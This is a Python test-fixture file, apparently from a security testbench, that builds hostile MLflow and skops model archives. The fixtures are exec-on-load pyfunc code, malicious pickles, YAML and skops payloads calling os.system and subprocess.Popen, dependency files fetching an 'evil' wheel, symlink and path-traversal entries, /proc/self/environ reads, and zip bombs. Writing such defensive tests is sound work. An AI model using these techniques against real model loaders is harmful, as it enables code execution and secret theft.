"""Hostile zips: folders of MLflow that bring code, addresses and links, lists of contents that lie."""

import json
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import cloudpickle
import mlflow.pyfunc

from tests.sandbox.attacks import Opens
from tests.testbench.corpus import benign, codes
from tests.testbench.corpus.world import World

Make = Callable[[Path, World], Path]
SKLEARN = "flavors: {sklearn: {pickled_model: model.pkl, serialization_format: cloudpickle}}\n"
PYFUNC = "flavors:\n  python_function:\n    loader_module: {}\n    env: {{}}\n"
PYMODEL = PYFUNC.format("mlflow.pyfunc.model")
EVIL = "http://127.0.0.1:PORT/evil-1-py3-none-any.whl"


def holding(files: Callable[[World], Mapping[str, str | bytes]], name: str = "model.zip") -> Make:
    """A zip of these files; MARKER and the like in a text are the world's."""

    def make(folder: Path, world: World) -> Path:
        with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as archive:
            for path, content in files(world).items():
                archive.writestr(path, world.fill(content) if isinstance(content, str) else content)
        return folder / name

    return make


def beside(**files: str) -> Make:
    """A good model, with these files beside it; ``__`` in a name is a slash, ``_`` a point."""
    named = {name.replace("__", "/").replace("_", "."): text for name, text in files.items()}
    return holding(lambda _: {"MLmodel": SKLEARN, "model.pkl": cloudpickle.dumps(benign.classifier()), **named})


def _python_model(folder: Path, world: World) -> Path:
    """A pyfunc model of a class of its own, pickled by value, that does harm when it is loaded and asked."""
    harm = world.fill(codes.AT_OPENING["a file outside"])

    class Hostile(mlflow.pyfunc.PythonModel):  # type: ignore[misc]
        def load_context(self, context: Any) -> None:  # noqa: ARG002  as MLflow calls it
            exec(harm)

        def predict(self, context: Any, model_input: Any) -> Any:  # noqa: ARG002
            exec(harm)
            return model_input

    mlflow.pyfunc.save_model(folder / "m", python_model=Hostile(), pip_requirements=[])
    return benign.archived(folder / "m", folder / "model")


def _links(name: str, target: str) -> Make:
    """name: of a link to target; the model lies behind it."""

    def make(folder: Path, world: World) -> Path:
        with zipfile.ZipFile(folder / "model.zip", "w") as archive:
            archive.writestr("MLmodel", f"flavors: {{sklearn: {{pickled_model: {name}/secret.txt}}}}")
            link = zipfile.ZipInfo(name)
            link.create_system, link.external_attr = 3, 0o120777 << 16
            archive.writestr(link, target.replace("FOLDER", str(world.secret.parent)))
            archive.writestr(f"{name}/marks/marker", "x")
        return folder / "model.zip"

    return make


def _device(folder: Path, world: World) -> Path:
    del world
    with zipfile.ZipFile(folder / "model.zip", "w") as archive:
        archive.writestr("MLmodel", SKLEARN)
        special = zipfile.ZipInfo("model.pkl")
        special.create_system, special.external_attr = 3, 0o060666 << 16
        archive.writestr(special, b"")
    return folder / "model.zip"


def _twice(folder: Path, world: World) -> Path:
    """Two files of one name: who checks the one opens the other."""
    harm = pickle.dumps(Opens(world.fill(codes.AT_OPENING["a file outside"])))
    with zipfile.ZipFile(folder / "model.zip", "w") as archive:
        archive.writestr("MLmodel", SKLEARN)
        archive.writestr("model.pkl", cloudpickle.dumps(benign.classifier()))
        archive._didModify = True
        archive.NameToInfo.clear()  # which would warn
        archive.writestr("model.pkl", harm)
    return folder / "model.zip"


def _local_name_differs(folder: Path, world: World) -> Path:
    made = holding(lambda _: {"MLmodel": SKLEARN, "model.pkl": b"x", "aaaaaaaaaaaa": b"x"})(folder, world)
    content = made.read_bytes()
    made.write_bytes(content.replace(b"aaaaaaaaaaaa", b"../../marker", 1))
    return made


def _size_that_lies(folder: Path, world: World) -> Path:
    """100 MB that are said to be 10 bytes."""
    made = holding(lambda _: {"MLmodel": SKLEARN, "model.pkl": bytes(100 << 20)})(folder, world)
    made.write_bytes(made.read_bytes().replace(struct.pack("<L", 100 << 20), struct.pack("<L", 10)))
    return made


def _overlapping(folder: Path, world: World) -> Path:
    """A list of contents that names one piece of data 20,000 times."""
    del world
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packed.compress(bytes(1 << 20)) + packed.flush()
    sizes = struct.pack("<LLL", zlib.crc32(bytes(1 << 20)), len(data), 1 << 20)
    local = b"PK\3\4" + struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes + struct.pack("<HH", 1, 0) + b"a" + data
    named = [f"{n:05}".encode() for n in range(20_000)]
    listed = b"".join(
        b"PK\1\2" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + sizes
        + struct.pack("<HHHHHLL", len(name), 0, 0, 0, 0, 0, 0) + name
        for name in [b"MLmodel", *named]
    )  # fmt: skip
    end = b"PK\5\6" + struct.pack("<HHHHLLH", 0, 0, len(named) + 1, len(named) + 1, len(listed), len(local), 0)
    (folder / "model.zip").write_bytes(local + listed + end)
    return folder / "model.zip"


def _with_a_password(folder: Path, world: World) -> Path:
    made = holding(lambda _: {"MLmodel": SKLEARN, "model.pkl": b"x" * 40})(folder, world)
    content = made.read_bytes()
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        start = content.index(mark)
        content = content[: start + at] + b"\1" + content[start + at + 1 :]
    made.write_bytes(content)
    return made


def _pickle_before_zip(folder: Path, world: World) -> Path:
    """What is a pickle to who reads from the beginning, and a zip to who reads from the end."""
    made = holding(lambda _: {"MLmodel": SKLEARN, "model.pkl": b"x"})(folder, world)
    harm = pickle.dumps(Opens(world.fill(codes.AT_OPENING["a file outside"])))
    (folder / "model.pkl").write_bytes(harm + made.read_bytes())
    return folder / "model.pkl"


def _skops(node: Callable[[World], object], **files: bytes) -> Make:
    def schema(world: World) -> dict[str, str | bytes]:
        words = {"protocol": 2, "_skops_version": "0.11", **dict(_items(node(world)))}
        return {"schema.json": json.dumps(words).encode(), **files}

    return holding(schema, "model.skops")


def _items(node: object) -> Mapping[str, object]:
    assert isinstance(node, dict)
    return node


def _reduced(world: World) -> object:
    return {
        "__class__": "_system", "__module__": "posix", "__loader__": "ReduceNode", "__id__": 1,
        "constructor": {"__class__": "system", "__module__": "posix", "__loader__": "TypeNode", "__id__": 2},
        "args": {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "__id__": 3,
                 "content": json.dumps(f"touch {world.marker}"), "is_json": True},
    }  # fmt: skip


def _object(world: World) -> object:
    return {
        "__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "__id__": 1,
        "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "__id__": 2,
                    "key_types": {}, "content": {"args": str(world.marker)}},
    }  # fmt: skip


def _nested(_: World) -> object:
    text = '{"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": ['
    return {"content": text * 100_000, "__class__": "list", "__module__": "builtins", "__loader__": "ListNode"}


LOADED = "import sys\nopen(MARKER, 'w')\ndef _load_pyfunc(path):\n    return sys\n"
FILES: dict[str, Make] = {
    "a loader that is told a path": holding(lambda _: {"MLmodel": PYFUNC.format("code.evil"), "code/evil.py": LOADED}),
    "a loader beside MLmodel": holding(lambda _: {"MLmodel": PYFUNC.format("evil"), "evil.py": LOADED}),
    "a loader of the library": holding(lambda _: {"MLmodel": PYFUNC.format("os"), "model.pkl": b"x"}),
    "a model that is code": holding(
        lambda _: {"MLmodel": PYMODEL + "    model_code_path: m.py\n    python_version: 3\n",
                   "m.py": "open(MARKER, 'w')\n"}
    ),
    "code paths that lead out": holding(
        lambda world: {"MLmodel": PYFUNC.format("marker") + f"    code: {world.marker.parent}\n"}
    ),
    "a pyfunc model": _python_model,
    "artifacts elsewhere": holding(
        lambda _: {"MLmodel": PYMODEL + "    python_model: p.pkl\n    artifacts: {x: {path: "
                   "../../secret.txt, uri: 'http://127.0.0.1:PORT/'}}\n", "p.pkl": b"\x80\x04N."}
    ),
    "a module in place of a library's": holding(
        lambda _: {"MLmodel": SKLEARN, "model.pkl": cloudpickle.dumps(benign.classifier()), "sklearn.py": LOADED,
                   "numpy/__init__.py": LOADED, "sitecustomize.py": LOADED, "usercustomize.py": LOADED}
    ),
    "requirements from elsewhere": beside(requirements_txt=f"evil @ {EVIL}\n--index-url http://127.0.0.1:PORT/\n"),
    "an environment from elsewhere": beside(
        conda_yaml=f"channels: ['http://127.0.0.1:PORT/']\ndependencies: [python, {{pip: ['{EVIL}']}}]\n",
        python__env_yaml=f"python: 3.11.0\nbuild_dependencies: ['{EVIL}']\n",
    ),
    "an environment with a tag of Python": beside(conda_yaml="!!python/object/apply:os.system ['touch MARKER']\n"),
    "a signature that is no JSON": holding(
        lambda _: {"MLmodel": SKLEARN + "signature: {inputs: '[[[[', outputs: '!!python/name:os.system'}\n",
                   "model.pkl": cloudpickle.dumps(benign.classifier())}
    ),
    "a signature of a hundred thousand columns": holding(
        lambda _: {"MLmodel": SKLEARN + "signature: {inputs: '" + json.dumps(
            [{"name": f"<b>{n}</b>", "type": "double", "required": True} for n in range(100_000)]) + "'}\n",
            "model.pkl": cloudpickle.dumps(benign.classifier())}
    ),
    "a flavour that nobody knows": holding(lambda _: {"MLmodel": "flavors: {'../../etc': {data: x}, os: {data: x}}\n"}),
    "an MLmodel of anchors": holding(lambda _: {"MLmodel": "a: &a [*a, *a]\nflavors: *a\n"}),
    "an MLmodel of a million brackets": holding(lambda _: {"MLmodel": "[" * 1_000_000}),
    "an MLmodel that points at a folder": holding(lambda _: {"MLmodel": "flavors: {sklearn: {pickled_model: .}}"}),
    "an MLmodel that points at a device": holding(
        lambda _: {"MLmodel": "flavors: {sklearn: {pickled_model: /dev/zero}}"}
    ),
    "an MLmodel that points at /proc": holding(
        lambda _: {"MLmodel": "flavors: {sklearn: {pickled_model: /proc/self/environ}}"}
    ),
    "a link to a folder": _links("data", "FOLDER"),
    "a link to /": _links("data", "/"),
    "a link to itself": _links("data", "data"),
    "a device in a zip": _device,
    "a name of a drive": holding(lambda _: {"MLmodel": SKLEARN, "C:\\marker": "x", "\\\\host\\share\\marker": "x"}),
    "a name of control characters": holding(lambda _: {"MLmodel": SKLEARN, "\x1b[2J\r\n\x07\u202e.pkl": "x"}),
    "a name of 60,000 characters": holding(lambda _: {"MLmodel": SKLEARN, "a" * 60_000: "x"}),
    "a name of a thousand folders": holding(lambda _: {"MLmodel": SKLEARN, "a/" * 1_000 + "x": "x"}),
    "a name that is a folder and a file": holding(
        lambda _: {"MLmodel": SKLEARN, "a": "x", "a/b": "x", "MLmodel/x": "x"}
    ),
    "50,000 files in a zip": holding(lambda _: {"MLmodel": SKLEARN, **{str(n): b"" for n in range(50_000)}}),
    "two files of one name": _twice,
    "another name at the file": _local_name_differs,
    "a size that lies": _size_that_lies,
    "a zip that overlaps": _overlapping,
    "a password": _with_a_password,
    "a pickle before a zip": _pickle_before_zip,
    "zips in a zip": holding(lambda _: {"MLmodel": SKLEARN, "model.pkl": b"PK\3\4" + bytes(50)}),
    "skops that calls": _skops(_reduced),
    "skops with a program": _skops(_object),
    "skops in itself": _skops(_nested),
}  # fmt: skip
